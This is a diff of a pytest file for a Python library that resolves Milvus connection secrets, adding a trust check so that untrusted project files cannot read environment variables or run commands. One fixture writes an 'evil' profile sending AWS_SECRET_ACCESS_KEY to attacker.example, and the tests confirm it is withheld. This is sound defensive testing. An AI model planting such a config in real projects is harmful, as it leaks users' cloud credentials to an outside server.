@@ -1,4 +1,4 @@
-"""Secret references in profile files: `{ env = "..." }` and `{ command = [...] }`."""
+"""Secret references in profile files: `{ env = "..." }`, `{ command = [...] }` and `{ file = "..." }`."""
 
 from __future__ import annotations
 
@@ -7,10 +7,17 @@ from pathlib import Path
 
 import pytest
 
-from milvus_profiles import ConfigError, SecretNotFoundError, connect, resolve, save_secret
+from milvus_profiles import (
+    ConfigError,
+    SecretNotFoundError,
+    SecretWithheldError,
+    connect,
+    resolve,
+    save_secret,
+)
 from milvus_profiles.secrets import reference as references
 
-from .conftest import SENTINEL, MemoryKeyring, write
+from .conftest import SENTINEL, MemoryKeyring, trusted, write
 
 PY = sys.executable.replace("\\", "\\\\")
 
@@ -33,9 +40,11 @@ def profile(name: str, reference: str, *, user: str | None = None) -> str:
 
 
 def test_env_reference(isolated: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    path = write(
-        isolated / "milvus.toml",
-        '[profiles.prod]\nuri = "https://p.example"\ntoken = { env = "PROD_MILVUS_TOKEN" }\n',
+    path = trusted(
+        write(
+            isolated / "milvus.toml",
+            '[profiles.prod]\nuri = "https://p.example"\ntoken = { env = "PROD_MILVUS_TOKEN" }\n',
+        )
     )
     monkeypatch.setenv("PROD_MILVUS_TOKEN", SENTINEL)
     cfg = resolve("prod")
@@ -49,18 +58,33 @@ def test_env_reference(isolated: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     assert token.get_secret_value() == "rotated"
 
 
-def test_env_reference_must_name_a_milvus_variable(isolated: Path) -> None:
+def test_an_untrusted_file_reads_no_variable(isolated: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     path = write(
         isolated / "milvus.toml",
         '[profiles.evil]\nuri = "https://attacker.example"\ntoken = { env = "AWS_SECRET_ACCESS_KEY" }\n',
     )
-    with pytest.raises(ConfigError) as e:
-        resolve("evil")
-    assert str(e.value) == (
-        f"{path}:3: profiles.evil.token.env: 'AWS_SECRET_ACCESS_KEY' cannot be read: a secret reference "
-        "may only name a variable whose name contains MILVUS (such as PROD_MILVUS_TOKEN), so a profile "
-        "file cannot send other secrets of the environment to a server"
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SENTINEL)
+    cfg = resolve("evil")
+    assert cfg.token is None
+    assert isinstance(cfg.secret_error, SecretWithheldError)
+    assert str(cfg.secret_error) == (
+        "profile evil: the token reference (env AWS_SECRET_ACCESS_KEY) is not followed: it is written in "
+        f"{path}, a project file you have not trusted (it may come from a cloned repository)\n"
+        "hint: read it, then run `milvus-profiles trust milvus.toml`"
     )
+    assert SENTINEL not in repr(cfg) + cfg.explain()
+
+
+def test_a_trusted_file_may_name_any_variable(
+    isolated: Path, user_file: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    write(
+        user_file, '[profiles.cloud]\nuri = "https://c.example"\ntoken = { env = "ZILLIZ_CLOUD_API_KEY" }\n'
+    )
+    monkeypatch.setenv("ZILLIZ_CLOUD_API_KEY", SENTINEL)
+    token = resolve("cloud").token
+    assert token is not None
+    assert token.get_secret_value() == SENTINEL
 
 
 def test_a_reference_with_both_or_neither_source(isolated: Path) -> None:
@@ -68,14 +92,17 @@ def test_a_reference_with_both_or_neither_source(isolated: Path) -> None:
     with pytest.raises(ConfigError) as e:
         resolve("p")
     assert str(e.value) == (
-        f'{path}:2: profiles.p.token: give exactly one of env = "VARIABLE" or command = ["program", "arg"]'
+        f'{path}:2: profiles.p.token: give exactly one of env = "VARIABLE", command = ["program", "arg"] '
+        'or file = "/path"'
     )
 
 
 def test_an_unset_variable_is_reported_when_the_secret_is_needed(isolated: Path) -> None:
-    write(
-        isolated / "milvus.toml",
-        '[profiles.p]\nuri = "http://127.0.0.1:9"\nuser = "u"\npassword = { env = "P_MILVUS_PW" }\n',
+    trusted(
+        write(
+            isolated / "milvus.toml",
+            '[profiles.p]\nuri = "http://127.0.0.1:9"\nuser = "u"\npassword = { env = "P_MILVUS_PW" }\n',
+        )
     )
     cfg = resolve("p")  # resolving never needs the secret
     assert cfg.password is None
@@ -106,22 +133,72 @@ def test_command_reference_in_the_user_file(
     assert memory_keyring.lookups == []  # a reference comes before the keyring
 
 
-def test_command_reference_in_a_project_file_is_refused(isolated: Path, user_file: Path) -> None:
+def test_command_reference_in_an_untrusted_project_file_never_runs(isolated: Path) -> None:
     marker = isolated / "ran"
-    path = write(isolated / "milvus.toml", profile("p", f"token = {{ command = {touch(marker)} }}"))
+    path = write(
+        isolated / "milvus.toml", profile("p", f"password = {{ command = {touch(marker)} }}", user="u")
+    )
+    cfg = resolve("p")
+    assert isinstance(cfg.secret_error, SecretWithheldError)
+    assert cfg.secret_error.message.startswith("profile p: the password reference (command ")
+    assert cfg.secret_error.message.endswith(
+        f"is not followed: it is written in {path}, a project file you have not trusted "
+        "(it may come from a cloned repository)"
+    )
+    with pytest.raises(SecretWithheldError) as e:
+        connect("p")
+    assert e.value.path == path
+    assert e.value.hint == "read it, then run `milvus-profiles trust milvus.toml`"
+    assert not marker.exists()
+    # trusting the file, or naming it, lets it run
+    trusted(path)
+    assert resolve("p").password is not None
+    assert marker.exists()
+    marker.unlink()
+    assert resolve("p", files=[path], db_name="x").password is not None
+
+
+@pytest.mark.parametrize("program", ["bin/get-token", "./get-token", "tools\\\\get-token"])
+def test_a_command_given_by_a_relative_path_is_refused(isolated: Path, user_file: Path, program: str) -> None:
+    path = write(user_file, profile("p", f'token = {{ command = ["{program}"] }}'))
     with pytest.raises(ConfigError) as e:
         resolve("p")
-    assert str(e.value) == (
-        f"{path}:3: profiles.p.token: a command reference in a project file is refused: a cloned "
-        "repository must not be able to run programs on this machine\n"
-        f"hint: move the reference to your user file ({user_file}), or name this file with --file or "
-        "MILVUS_PROFILES_FILE to trust it"
-    )
-    assert not marker.exists()
-    # naming the file trusts it
-    token = resolve("p", files=[path]).token
-    assert token is not None
-    assert marker.exists()
+    assert e.value.path == path
+    assert e.value.line == 3
+    assert "is a relative path, which would run a file of whatever folder you are in" in e.value.reason
+
+
+def test_file_reference(isolated: Path, user_file: Path) -> None:
+    secret = write(isolated / "run" / "token", SENTINEL + "\n")
+    secret.chmod(0o644)  # as Kubernetes mounts a Secret
+    write(user_file, profile("p", f'token = {{ file = "{secret}" }}'))
+    cfg = resolve("p")
+    assert cfg.token is not None
+    assert cfg.token.get_secret_value() == SENTINEL
+    assert str(cfg.origins["token"]) == f"reference file {secret} ({user_file}:3 [profiles.p])"
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="FIFOs and mode bits are POSIX")
+def test_file_reference_refuses_what_is_not_a_private_regular_file(isolated: Path, user_file: Path) -> None:
+    import os
+
+    fifo = isolated / "fifo"
+    os.mkfifo(fifo)
+    shared = write(isolated / "shared", "x")
+    shared.chmod(0o666)
+    relative = "run/token"
+    for target, expected in (
+        (fifo, f"refers to {fifo}, which is not a regular file"),
+        (shared, f"refers to {shared}, but the file is writable by other users, so it is not read"),
+        (isolated / "missing", f"refers to the file {isolated / 'missing'}, which does not exist"),
+    ):
+        write(user_file, profile("p", f'token = {{ file = "{target}" }}'))
+        error = resolve("p").secret_error
+        assert isinstance(error, SecretNotFoundError), target
+        assert expected in error.message
+    write(user_file, profile("p", f'token = {{ file = "{relative}" }}'))
+    with pytest.raises(ConfigError, match="must be an absolute path"):
+        resolve("p")
 
 
 def test_a_failing_command_reports_status_and_stderr_but_never_its_output(isolated: Path) -> None:
@@ -176,8 +253,11 @@ def test_environment_and_arguments_win_over_a_reference(
 
 
 def test_a_reference_comes_before_the_keyring(isolated: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    write(
-        isolated / "milvus.toml", '[profiles.p]\nuri = "https://p.example"\ntoken = { env = "P_MILVUS_T" }\n'
+    trusted(
+        write(
+            isolated / "milvus.toml",
+            '[profiles.p]\nuri = "https://p.example"\ntoken = { env = "P_MILVUS_T" }\n',
+        )
     )
     save_secret("p", "from-keyring")
     monkeypatch.setenv("P_MILVUS_T", "from-reference")
